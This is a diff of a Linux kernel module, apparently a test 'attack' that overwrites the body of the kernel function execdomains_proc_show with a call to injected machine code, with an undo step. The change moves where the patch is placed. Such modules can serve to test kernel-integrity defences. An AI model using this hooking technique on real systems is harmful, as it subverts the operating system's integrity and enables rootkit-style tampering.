@@ -26,7 +26,7 @@ module_param(as_ftrace, bool, 0);
 static const u8 code[] = {0x48, 0x83, 0xc4, 0x08, 0xb8, 0xfb, 0xff, 0xff, 0xff, 0xc3};
 static struct bpf_ksym sym;
 static struct ftrace_ops ops;
-static u8 *page;
+static u8 *page, *place;
 static u8 old[5];
 
 static int set(unsigned long function)
@@ -60,15 +60,16 @@ static int run(void)
 	if (set(set_memory_ro_at) || set(set_memory_x_at))
 		return -EIO;
 	enlist();
-	away = (s32)((unsigned long)page - (execdomains_proc_show_at + sizeof(call)));
+	place = attack_body(execdomains_proc_show_at) - sizeof(call);
+	away = (s32)(page - (place + sizeof(call)));
 	memcpy(call + 1, &away, sizeof(away));
-	memcpy(old, (void *)execdomains_proc_show_at, sizeof(old));
-	return attack_poke((u8 *)execdomains_proc_show_at, call);
+	memcpy(old, place, sizeof(old));
+	return attack_poke(place, call);
 }
 
 static void undo(void)
 {
-	if (attack_poke((u8 *)execdomains_proc_show_at, old))
+	if (attack_poke(place, old))
 		pr_err("attack " KBUILD_MODNAME ": cannot be undone\n");
 	if (as_ftrace)
 		list_del_rcu(&ops.list);
